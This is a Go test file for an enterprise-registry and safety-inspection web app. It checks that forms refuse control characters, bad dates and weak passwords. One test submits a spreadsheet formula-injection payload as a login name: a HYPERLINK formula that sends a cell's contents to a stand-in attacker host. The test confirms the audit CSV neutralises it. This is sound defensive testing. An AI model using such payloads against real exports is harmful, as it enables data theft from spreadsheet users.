package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"taotai"
	"taotai/internal/forms"
	"taotai/internal/store"
	"taotai/internal/store/storetest"
)

// badTexts are what a client can send that no field may hold: a NUL byte,
// invalid UTF-8, a control character, a bidi override, an invisible mark.
var badTexts = map[string]string{"NUL": "\x00", "invalid UTF-8": "\xff\xfe", "escape": "\x1b", "RLO": "\u202e",
	"RLI": "\u2067", "RLM": "\u200f"}

// refused checks the answer to input with refused characters: 400 with
// the message, never a 500, on both databases.
func refused(t *testing.T, what string, r *response) {
	t.Helper()
	if r.Status != http.StatusBadRequest || text(r, "#error-message") != taotai.MsgBadText {
		t.Errorf("%s: %d %q, want 400 %q", what, r.Status, text(r, "#error-message"), taotai.MsgBadText)
	}
}

func TestBadCharactersRefused(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := setup(t, db)
		ts := newServer(t, db)
		c := newClient(t, ts)
		c.login("ansh_clerk")
		tok := c.csrf("/enterprises/new")
		form := func(field, v string) url.Values {
			return url.Values{"csrf_token": {tok}, "name": {"鞍山新建水泥有限公司"}, "address": {"鞍山市铁东区建国路3号"},
				"credit_code": {"91210300MA0000002" + string(taotai.USCCCheckDigit("91210300MA0000002"))},
				"region":      {"210302"}, "industry": {strconv.FormatInt(f.steel, 10)}, "production_state": {"normal"}, field: {v}}
		}
		before := count(db)
		for name, bad := range badTexts {
			for _, field := range []string{"name", "address", "contact_phone"} {
				refused(t, "enterprise "+field+" with "+name, c.post("/enterprises", form(field, "鞍山"+bad+"公司")))
			}
			refused(t, "registry search with "+name, c.get("/enterprises?"+url.Values{"q": {"钢铁" + bad}}.Encode()))
			refused(t, "registry filter with "+name, c.get("/enterprises?"+url.Values{"region": {"210300" + bad}}.Encode()))
			refused(t, "address with "+name, c.get("/enterprises/"+url.PathEscape("1"+bad)))
			refused(t, "edit with "+name, c.post(idPath(f.own.ID, ""), url.Values{"csrf_token": {tok}, "name": {bad}}))
		}
		if n := count(db); n != before {
			t.Errorf("%d → %d enterprises after refused forms", before, n)
		}
		// A tab or a line break is refused in a one-line field.
		refused(t, "name with a line break", c.post("/enterprises", form("name", "鞍山\n公司")))
		refused(t, "name with a tab", c.post("/enterprises", form("name", "鞍山\t公司")))
		if r := c.post("/enterprises", form("name", "鞍山新建水泥有限公司")); r.Status != http.StatusSeeOther {
			t.Fatalf("the same form with clean text: %d %s", r.Status, text(r, "#error-summary"))
		}

		// Sign-in: refused cleanly, before the database is asked.
		anon := newClient(t, ts)
		for name, bad := range badTexts {
			refused(t, "login name with "+name, anon.post("/login", url.Values{"csrf_token": {anon.csrf("/login")},
				"username": {"ansh_clerk" + bad}, "password": {password}}))
			refused(t, "login password with "+name, anon.post("/login", url.Values{"csrf_token": {anon.csrf("/login")},
				"username": {"ansh_clerk"}, "password": {password + bad}}))
		}
		// The account is not locked by them: the refusals never reached it.
		anon.login("ansh_clerk")
	})
}

// A <textarea> takes line breaks and tabs; the fields around it do not.
func TestMultiLineFields(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := setup(t, db)
		c := newClient(t, newServer(t, db))
		c.login("ansh_inspector")
		tok := c.csrf("/")
		form := inspForm(tok)
		form.Set("findings", "第一行\r\n第二行\t（附表）")
		inspRecord(t, c, f.own, form)
		before := inspCount(t, db, f.own)
		form = inspForm(tok)
		form.Set("inspectors", "张明\r\n李强")
		refused(t, "inspectors with a line break", c.post(idPath(f.own.ID, "/inspections"), form))
		form = inspForm(tok)
		form.Set("findings", "例行\x00检查")
		refused(t, "findings with NUL", c.post(idPath(f.own.ID, "/inspections"), form))
		if n := inspCount(t, db, f.own); n != before {
			t.Errorf("%d → %d inspections after refused forms", before, n)
		}
	})
}

// Every date field takes dates of 2000–2099 only; a re-check cannot come
// before the inspection that found the hazard.
func TestDateRanges(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		f := setup(t, db)
		c := newClient(t, newServer(t, db))
		c.login("ansh_inspector")
		crit := inspCriterion(t, c, f.own)
		tok := c.csrf("/")
		const rangeMsg = "应在2000年1月1日至2099年12月31日之间"
		for _, tc := range []struct{ field, value string }{{"date", "0001-01-01"}, {"date", "1999-12-31"}, {"h0_deadline", "9999-12-31"},
			{"h0_deadline", "2100-01-01"}} {
			form := inspMajor(tok, crit)
			form.Set(tc.field, tc.value)
			r := c.post(idPath(f.own.ID, "/inspections"), form)
			if r.Status != http.StatusBadRequest || !strings.Contains(text(r, "#error-summary"), rangeMsg) {
				t.Errorf("%s %s: %d %q", tc.field, tc.value, r.Status, text(r, "#error-summary"))
			}
		}
		if n := inspCount(t, db, f.own); n != 0 {
			t.Fatalf("%d inspections recorded with dates out of range", n)
		}
		hz := inspHazardOf(t, c, inspRecord(t, c, f.own, inspMajor(tok, crit))) // inspected 2020-05-09
		page := c.get(hz)
		ext := url.Values{"csrf_token": {tok}, "version": {inspVersion(page)}, "deadline": {"9999-12-31"}, "reason": {"设备到货延迟"}}
		if r := c.post(hz+"/extend", ext); r.Status != http.StatusBadRequest || !strings.Contains(text(r, "#deadline-error"), rangeMsg) {
			t.Errorf("extension to 9999: %d %q", r.Status, text(r, "#deadline-error"))
		}
		rc := url.Values{"csrf_token": {tok}, "version": {inspVersion(page)}, "passed": {"1"}, "date": {"2020-05-08"}}
		if r := c.post(hz+"/recheck", rc); r.Status != http.StatusBadRequest || !strings.Contains(text(r, "#date-error"), "不能早于发现该隐患的检查日期") {
			t.Errorf("re-check before the inspection: %d %q", r.Status, text(r, "#date-error"))
		}
		rc.Set("date", "0001-01-01")
		if r := c.post(hz+"/recheck", rc); r.Status != http.StatusBadRequest || !strings.Contains(text(r, "#date-error"), rangeMsg) {
			t.Errorf("re-check in year 1: %d %q", r.Status, text(r, "#date-error"))
		}
		if r := c.get(hz); text(r, "#hazard-status") != "待整改" {
			t.Errorf("hazard %q after refused changes", text(r, "#hazard-status"))
		}
	})
}

func TestWeakPasswordsRefused(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		setup(t, db)
		c := newClient(t, newServer(t, db))
		c.login("ansh_clerk")
		tok := c.csrf("/account")
		for pw, want := range map[string]string{"            ": "只由空格", "aaaaaaaaaaaa": "同一个字符", "鞍鞍鞍鞍鞍鞍鞍鞍鞍鞍": "同一个字符"} {
			r := c.post("/account/password", url.Values{"csrf_token": {tok}, "current": {password}, "password": {pw}, "confirm": {pw}})
			if r.Status != http.StatusBadRequest || !strings.Contains(text(r, "#password-error"), want) {
				t.Errorf("password %q: %d %q", pw, r.Status, text(r, "#password-error"))
			}
		}
	})
}

// The audit trail's CSV neutralises a user name typed at a failed sign-in
// and every other text cell that a spreadsheet would run as a formula.
func TestAuditCSVNeutralisesFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		addUser(t, db, "root", taotai.RoleAdmin, taotai.ProvinceCode, "")
		ts := newServer(t, db)
		anon := newClient(t, ts)
		names := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+1+1", "-1+1", "@SUM(1,1)"}
		for _, n := range names {
			r := anon.post("/login", url.Values{"csrf_token": {anon.csrf("/login")}, "username": {n}, "password": {"wrong password"}})
			if r.Status != http.StatusUnauthorized {
				t.Fatalf("failed sign-in as %q: %d", n, r.Status)
			}
		}
		// Tab and CR cannot come through the pages; the writer holds them
		// off all the same.
		sys := taotai.NewContextWithActor(context.Background(), taotai.System)
		if err := db.RecordEvent(sys, taotai.AuditExport, "@entity", "\t=1+1", "\r=1+1"); err != nil {
			t.Fatal(err)
		}
		admin := newClient(t, ts)
		admin.login("root")
		r := admin.get("/admin/audit.csv")
		if r.Status != http.StatusOK {
			t.Fatalf("audit CSV: %d", r.Status)
		}
		recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix([]byte(r.Body), []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		cells := map[string]bool{}
		for _, rec := range recs {
			for _, v := range rec {
				if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					t.Errorf("cell %q not neutralised", v)
				}
				cells[v] = true
			}
		}
		for _, n := range append(names, "@entity", "\t=1+1") {
			if !cells[forms.SafeText(n)] {
				t.Errorf("no cell %q in the audit CSV", forms.SafeText(n))
			}
		}
	})
}
